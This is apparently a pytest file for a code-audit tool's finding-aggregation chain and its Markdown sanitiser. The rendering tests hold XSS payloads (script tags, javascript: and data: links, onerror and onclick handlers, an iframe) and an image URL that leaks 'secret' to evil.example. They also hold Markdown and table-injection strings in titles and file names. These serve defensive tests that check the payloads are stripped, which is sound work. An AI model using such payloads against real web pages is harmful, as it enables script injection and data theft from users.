"""The aggregation chain: dedup → quorum → confidence → synthesis → critic, and safe rendering."""

from __future__ import annotations

import math
from html.parser import HTMLParser
from typing import Any

import pytest

from agents.aggregation.records import Cluster, FindingRow
from agents.aggregation.stages import (
    ReportDraft,
    RunFacts,
    confidence,
    critic,
    dedup,
    quorum,
    run_chain,
    synthesis,
)
from runs.rendering import render_markdown

CHAIN = ["dedup", "quorum", "confidence", "synthesis", "critic"]
_ids = iter(range(1, 100_000))


def row(
    task_id: int,
    *,
    path: str = "app/views.py",
    line: int | None = 10,
    rule: str = "PY001",
    title: str = "SQL injection",
    severity: str = "high",
    conf: float = 0.5,
    lens: str = "security",
    detail: str = "detail",
    evidence: str = "",
) -> FindingRow:
    return FindingRow(
        id=next(_ids),
        task_id=task_id,
        lens=lens,
        rule=rule,
        title=title,
        detail=detail,
        severity=severity,
        confidence=conf,
        path=path,
        line_start=line,
        line_end=line,
        evidence=evidence,
    )


def facts(**overrides: Any) -> RunFacts:
    data: dict[str, Any] = dict(
        run_id=1,
        playbook="codebase-audit",
        playbook_title="Codebase audit",
        target="vulnerable_app",
        status="aggregating",
        provider="heuristic",
        is_llm=False,
        agents={"succeeded": 3, "failed": 0, "skipped": 0, "total": 3},
        cost_usd="0.00",
        budget_usd="5.00",
        unpriced_calls=0,
        tokens={"input": 10, "output": 5},
        skipped_files=[],
        failed_scopes=[],
        skipped_scopes=[],
        options={},
    )
    data.update(overrides)
    return RunFacts(**data)


def cluster(**overrides: Any) -> Cluster:
    data: dict[str, Any] = dict(
        key="k",
        title="t",
        severity="medium",
        confidence=0.9,
        path="a.py",
        line_start=1,
        line_end=1,
        rule="R",
        lenses=["security"],
        detail="",
        evidence="",
        finding_ids=[1],
        task_ids=[1],
        votes=1,
    )
    data.update(overrides)
    return Cluster(**data)


# --- dedup ------------------------------------------------------------------------------------


def test_dedup_merges_same_place_and_rule_from_different_tasks() -> None:
    rows = [row(1, conf=0.5), row(2, conf=0.4, lens="reliability"), row(3, conf=0.2)]
    clusters = dedup(rows)
    assert len(clusters) == 1
    only = clusters[0]
    assert only.votes == 3
    assert sorted(only.task_ids) == [1, 2, 3]
    assert sorted(only.finding_ids) == sorted(r.id for r in rows)
    assert set(only.lenses) == {"security", "reliability"}
    assert math.isclose(only.confidence, 1 - (0.5 * 0.6 * 0.8))


def test_dedup_votes_count_distinct_tasks_not_findings() -> None:
    rows = [row(1, conf=0.3), row(1, conf=0.3), row(2, conf=0.3)]
    (only,) = dedup(rows)
    assert only.votes == 2
    assert len(only.finding_ids) == 3


def test_dedup_keeps_the_highest_severity() -> None:
    (only,) = dedup([row(1, severity="low"), row(2, severity="critical"), row(3, severity="high")])
    assert only.severity == "critical"


@pytest.mark.parametrize(
    "other",
    [
        {"path": "app/db.py"},
        {"line": 20},  # beyond the default 3-line window
        {"rule": "PY002"},
    ],
)
def test_dedup_keeps_different_places_or_rules_apart(other: dict[str, Any]) -> None:
    assert len(dedup([row(1), row(2, **other)])) == 2


def test_dedup_without_rule_matches_on_normalised_title() -> None:
    rows = [
        row(1, rule="", title="Hard-coded  SECRET!"),
        row(2, rule="", title="hard coded secret"),
    ]
    assert len(dedup(rows)) == 1


def test_dedup_is_independent_of_input_order() -> None:
    rows = [row(1, conf=0.2), row(2, path="b.py"), row(3, conf=0.7), row(4, line=3)]
    forward = [(c.key, c.votes, round(c.confidence, 9)) for c in dedup(rows)]
    backward = [(c.key, c.votes, round(c.confidence, 9)) for c in dedup(list(reversed(rows)))]
    assert sorted(forward) == sorted(backward)


# --- quorum / confidence ---------------------------------------------------------------------


def test_quorum_drops_clusters_with_fewer_votes() -> None:
    weak, strong = cluster(key="w", votes=1), cluster(key="s", votes=2)
    quorum([weak, strong], 2)
    assert weak.kept is False
    assert "quorum is 2" in weak.dropped_reason
    assert strong.kept is True


def test_confidence_threshold_drops_low_ones() -> None:
    low, edge, high = cluster(confidence=0.29), cluster(confidence=0.3), cluster(confidence=0.8)
    confidence([low, edge, high], 0.3)
    assert low.kept is False
    assert "0.29 < 0.30" in low.dropped_reason
    assert edge.kept is True
    assert high.kept is True


def test_confidence_keeps_first_drop_reason() -> None:
    c = cluster(votes=1, confidence=0.1)
    quorum([c], 2)
    confidence([c], 0.5)
    assert c.kept is False
    assert "quorum" in c.dropped_reason


def test_chain_applies_vote_quorum_and_min_confidence_options() -> None:
    rows = [
        row(1, path="a.py", conf=0.9),
        row(2, path="a.py", conf=0.9),  # 2 votes: kept
        row(3, path="b.py", conf=0.9),  # 1 vote: dropped by quorum
        row(4, path="c.py", conf=0.1),
        row(5, path="c.py", conf=0.1),
    ]  # 0.19: dropped
    draft = run_chain(rows, facts(options={"vote_quorum": 2, "min_confidence": 0.3}), CHAIN)
    kept = [c.path for c in draft.clusters if c.kept]
    assert kept == ["a.py"]
    assert draft.stats == {
        "raw_findings": 5,
        "clusters": 3,
        "kept": 1,
        "dropped": 2,
        "by_severity": {"info": 0, "low": 0, "medium": 0, "high": 1, "critical": 0},
        "fabricated": 0,
    }


def test_chain_without_dedup_keeps_one_cluster_per_finding() -> None:
    draft = run_chain([row(1), row(2)], facts(), ["synthesis"])
    assert len(draft.clusters) == 2


def test_unknown_chain_step_raises_value_error() -> None:
    with pytest.raises(ValueError, match="majority-vote"):
        run_chain([row(1)], facts(), ["dedup", "majority-vote"])


# --- synthesis --------------------------------------------------------------------------------


def test_synthesis_says_offline_heuristic_analyzer_when_not_llm() -> None:
    draft = run_chain([row(1)], facts(is_llm=False), CHAIN)
    assert "offline heuristic analyzer" in draft.markdown


def test_synthesis_does_not_claim_offline_analyzer_for_llm_runs() -> None:
    draft = run_chain([row(1)], facts(is_llm=True, provider="openai"), CHAIN)
    assert "offline heuristic analyzer" not in draft.markdown


def test_synthesis_escapes_pipes_and_newlines_in_untrusted_titles() -> None:
    evil = "bad | injected | cells\n| --- |\n# Heading"
    draft = ReportDraft(chain=CHAIN, clusters=dedup([row(1, title=evil, path="x|y.py")]))
    synthesis(draft, facts())
    table_rows = [ln for ln in draft.markdown.splitlines() if ln.startswith("| high |")]
    assert len(table_rows) == 1
    line = table_rows[0]
    assert "bad \\| injected \\| cells" in line
    # Exactly 6 unescaped pipes: the five columns' borders.
    assert line.replace("\\|", "").count("|") == 6
    assert "\n# Heading" not in draft.markdown
    html = render_markdown(draft.markdown)
    assert "<h1>Heading</h1>" not in html


def test_synthesis_reports_no_findings_plainly() -> None:
    draft = run_chain([], facts(), CHAIN)
    assert "No finding passed the aggregation chain." in draft.markdown


def test_synthesis_ranks_by_severity_then_confidence() -> None:
    rows = [
        row(1, path="a.py", severity="low", conf=0.9, title="Low one"),
        row(2, path="b.py", severity="critical", conf=0.5, title="Critical one"),
        row(3, path="c.py", severity="critical", conf=0.9, title="Sure critical"),
    ]
    md = run_chain(rows, facts(), CHAIN).markdown
    assert md.index("Sure critical") < md.index("Critical one") < md.index("Low one")


def test_synthesis_mentions_budget_exhaustion() -> None:
    draft = run_chain([row(1)], facts(status="budget_exhausted"), CHAIN)
    assert "budget ran out" in draft.markdown


# --- critic -----------------------------------------------------------------------------------


def test_critic_lists_failed_and_skipped_scopes() -> None:
    draft = run_chain(
        [row(1)],
        facts(failed_scopes=["app/db.py", "app/views.py"], skipped_scopes=["web/"]),
        CHAIN,
    )
    failed = next(n for n in draft.critique if "failed" in n)
    assert "2 agents failed" in failed
    assert "app/db.py" in failed and "app/views.py" in failed
    skipped = next(n for n in draft.critique if "skipped" in n)
    assert "web/" in skipped
    assert "## Critique" in draft.markdown
    # Shown to the reviewer as typed (the Markdown source escapes its punctuation).
    assert "app/db.py" in render_markdown(draft.markdown).split("Critique")[1]


def test_agents_an_allowance_stopped_are_named_once_in_their_own_note() -> None:
    draft = run_chain(
        [row(1)],
        facts(
            skipped_scopes=["app/db.py", "app/views.py", "web/"],
            unread_by_allowance=["app/db.py", "app/views.py"],
        ),
        CHAIN,
    )
    skipped = [n for n in draft.critique if "skipped; not covered" in n]
    assert skipped == ["1 agent was skipped; not covered: web/"]
    unread = [n for n in draft.critique if "allowance ran out" in n]
    assert len(unread) == 1 and "app/db.py, app/views.py" in unread[0]


def test_critic_flags_low_confidence_serious_findings() -> None:
    rows = [
        row(1, path="a.py", severity="critical", conf=0.4),
        row(2, path="b.py", severity="low", conf=0.4),
        row(3, path="c.py", severity="high", conf=0.95),
    ]
    draft = run_chain(rows, facts(), CHAIN)
    assert any(
        "1 serious finding has low confidence: verify it by hand" in n for n in draft.critique
    )
    by_path = {c.path: c for c in draft.clusters}
    assert by_path["a.py"].verdict.startswith("verify")
    assert not by_path["b.py"].verdict.startswith("verify")
    assert not by_path["c.py"].verdict.startswith("verify")


def test_critic_is_quiet_about_a_clean_run() -> None:
    draft = ReportDraft(chain=CHAIN, clusters=[cluster(confidence=0.9, severity="high", votes=2)])
    critic(draft, facts())
    assert draft.critique == []
    assert "## Critique" not in draft.markdown
    assert draft.clusters[0].verdict == "confirmed by several agents"


def test_critic_escapes_untrusted_scope_names() -> None:
    draft = run_chain([], facts(failed_scopes=["a|b\n## Fake heading"]), CHAIN)
    critique = draft.markdown.split("## Critique")[1]
    assert "\n## Fake heading" not in critique
    assert "a\\|b" in critique


def test_chain_without_critic_has_no_critique() -> None:
    draft = run_chain([row(1)], facts(failed_scopes=["x"]), ["dedup", "synthesis"])
    assert draft.critique == []


# --- rendering untrusted markdown -------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "hello <script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](<javascript:alert(1)>)",
        '<a href="javascript:alert(1)">x</a>',
        "![tracker](https://evil.example/p.png?d=secret)",
        "<img src=x onerror=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
        '<div onclick="steal()">x</div>',
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<style>body{display:none}</style>",
    ],
)
def test_render_markdown_strips_dangerous_content(source: str) -> None:
    html = render_markdown(source)
    tags = _tags(html)
    names = {name for name, _ in tags}
    assert names <= {"p", "a", "code", "pre"}, html
    assert "<script" not in html.lower()
    for _, attrs in tags:
        assert not any(key.startswith("on") for key in attrs), html
        href = (attrs.get("href") or "").strip().lower()
        assert href == "" or href.startswith(("http://", "https://", "mailto:")), html


def test_render_markdown_drops_images_entirely() -> None:
    html = render_markdown("see ![x](https://evil.example/p.png?d=secret) here")
    assert "img" not in {name for name, _ in _tags(html)}
    assert "src=" not in html


def test_render_markdown_keeps_ordinary_formatting_and_shows_links_as_text() -> None:
    html = render_markdown(
        "# Title\n\n**bold** and `code`\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n"
        "[docs](https://example.com/x)"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<table>" in html and "<td>1</td>" in html
    # A report's own Markdown has no link: any link in it came from a model or the target.
    assert "[docs](https://example.com/x)" in html and "<a" not in html


def test_render_markdown_of_empty_input_is_empty() -> None:
    assert render_markdown("") == ""


def test_user_supplied_names_are_literal_text_in_the_report() -> None:
    # An archive named like a Markdown link, a path and a title crafted the same way.
    hostile = row(
        1,
        path="docs/[x](https:evil.example)`|.py",
        title="Leak ![img](https://evil.example/p.png) | [click](https://evil.example)",
        severity="critical",
        conf=0.9,
    )
    draft = run_chain(
        [hostile], facts(target="[phish](https:evil.example).zip"), ["dedup", "synthesis"]
    )
    html = render_markdown(draft.markdown)
    assert "<a " not in html and "<img" not in html
    assert "[phish](https:evil.example).zip" in html  # shown as typed, not as a link
    assert "[click](https://evil.example)" in html
    # The pipe in the title and path did not split the findings table's row.
    rows = [line for line in draft.markdown.splitlines() if line.startswith("| critical")]
    assert len(rows) == 1 and rows[0].count(" | ") == 4
